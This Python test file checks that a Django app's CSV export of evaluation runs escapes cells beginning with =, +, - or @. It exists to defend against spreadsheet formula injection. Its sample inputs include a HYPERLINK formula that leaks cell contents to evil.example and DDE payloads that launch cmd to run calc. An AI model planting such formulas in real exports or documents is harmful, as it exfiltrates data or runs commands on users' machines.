"""A Verify-all run's CSV opens in a spreadsheet as text: no cell of it runs as a formula."""

import csv
import io

import pytest

from evaluation.models import GoldenQuestion, RunItemStatus, RunStatus, VerifyRun, VerifyRunItem
from tests.factories import login

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_cells_that_start_like_a_formula_are_exported_as_text(client) -> None:
    run = VerifyRun.objects.create(label="formulas", status=RunStatus.DONE, mode="local")
    for number, formula in enumerate(FORMULAS):
        golden = GoldenQuestion.objects.create(code=f"f{number}", category="adversarial", question=formula)
        VerifyRunItem.objects.create(run=run, golden=golden, status=RunItemStatus.ERROR, error=formula)
    GoldenQuestion.objects.create(code="plain", category="single_fact", question="How long is the viaduct?")
    VerifyRunItem.objects.create(run=run, golden=GoldenQuestion.objects.get(code="plain"), error="")

    login(client, "operator")
    response = client.get(f"/operators/runs/{run.pk}/export.csv")
    assert response.status_code == 200
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}

    for number, formula in enumerate(FORMULAS):
        row = rows[f"f{number}"]
        assert row["question"] == "'" + formula and row["answer"] == "'" + formula
    assert rows["plain"]["question"] == "How long is the viaduct?"  # other text is left as it is
    assert rows["plain"]["claims"] == "0" and rows["plain"]["refused"] == "False"
    for row in rows.values():
        assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in row.values())
